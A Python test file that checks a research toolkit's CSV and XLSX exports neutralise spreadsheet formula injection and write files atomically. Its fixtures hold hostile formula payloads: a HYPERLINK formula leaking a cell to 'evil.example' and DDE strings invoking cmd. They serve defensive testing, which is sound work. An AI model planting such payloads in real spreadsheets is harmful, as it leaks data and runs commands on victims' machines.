"""Formula injection: project text that a spreadsheet would run is neutralised in every CSV and XLSX export, .xlsx
text cells are strings, and a failed export leaves no half-written file."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from toolkit import charting as ch
from toolkit import project as proj
from toolkit.export import export_csv, export_xlsx
from toolkit.safeio import atomic_output, safe_cell, save_atomic, write_csv
from toolkit.store import core as db

QUOTE = '=HYPERLINK("http://evil.example/?s="&A1,"click")'
ATTR = "@SUM(1+1)*cmd|' /C calc'!A0"
SUMMARY = "+cmd|' /C calc'!A0"
TAB = "\t=1+1"


@pytest.fixture
def hostile(tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    (d / "P01_x.txt").write_text(f"Interviewer: What would you click?\nP01: {QUOTE}\n", encoding="utf-8")
    (d / "people.csv").write_text(f'id,group,setting\nP01,"{ATTR}",-rural\n', encoding="utf-8")
    p = proj.create(tmp_path / "h.fa")
    proj.import_transcripts(p, d / "P01_x.txt", attributes=d / "people.csv")
    with p.transaction() as s:
        tr = db.transcript_by_name(s, "P01_x.txt")
        start = tr.text.index(QUOTE)
        db.add_coding(s, transcript_id=tr.id, start=start, end=start + len(QUOTE),
                      code_pk=db.code_pks(s, "lvi84")["ORG01"], coder=db.coder_id(s, "ann"), origin="manual")
    ch.set_summary(p, "lvi84", "P01", "ORG01", SUMMARY, author="ann", status="reviewed")
    yield p
    p.close()


def test_safe_cell_follows_owasp():
    for bad in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    for ok in ("Normal text", "", "1.5", " =leading space"):
        assert safe_cell(ok) == ok
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def test_xlsx_cells_are_strings_and_neutralised(hostile, tmp_path):
    m = ch.build_matrix(hostile, "lvi84")
    out = export_xlsx(m, tmp_path / "chart.xlsx")
    wb = load_workbook(out)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert c.data_type == "s"
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), (ws.title, c.value)
                    seen.add(c.value)
    assert {"'" + QUOTE, "'" + ATTR, "'" + SUMMARY, "'-rural"} <= seen


def test_chart_csv_and_codings_csv_are_neutralised(hostile, tmp_path):
    m = ch.build_matrix(hostile, "lvi84")
    export_csv(m, tmp_path / "chart.csv")
    with (tmp_path / "chart.csv").open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + SUMMARY in cells and "'" + ATTR in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    proj.export_codings(hostile, tmp_path / "codings.csv")
    with (tmp_path / "codings.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["text"] == "'" + QUOTE
    # read back by the toolkit: the quote matches the transcript again (same coder: nothing added twice)
    n = proj.import_codings(hostile, tmp_path / "codings.csv", framework="lvi84")
    assert (int(n), n.skipped) == (0, 1)
    n = proj.import_codings(hostile, tmp_path / "codings.csv", framework="lvi84", coder="bob")
    assert int(n) == 1


def test_a_failed_export_leaves_no_half_written_file_and_keeps_the_old_one(tmp_path):
    class Broken:
        def save(self, path):
            with open(path, "wb") as fh:
                fh.write(b"PK\x03\x04 half a docx")
            raise RuntimeError("disk went away")

    out = tmp_path / "report.docx"
    with pytest.raises(RuntimeError):
        save_atomic(Broken(), out)
    assert not out.exists() and list(tmp_path.iterdir()) == []
    out.write_bytes(b"the old report")
    with pytest.raises(RuntimeError):
        save_atomic(Broken(), out)
    assert out.read_bytes() == b"the old report" and list(tmp_path.iterdir()) == [out]

    import pandas as pd

    with pytest.raises(OSError, match="No space left on device"):
        with atomic_output(tmp_path / "x.csv") as tmp:
            tmp.write_text("half")
            raise OSError(28, "No space left on device")
    assert not (tmp_path / "x.csv").exists() and list(tmp_path.iterdir()) == [out]
    write_csv(pd.DataFrame({"a": [TAB, "ok"]}), tmp_path / "y.csv")
    assert (tmp_path / "y.csv").read_text(encoding="utf-8") == "a\n'\t=1+1\nok\n"
    from toolkit.errors import InputError

    with pytest.raises(InputError, match="cannot write"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "no such folder" / "z.csv")
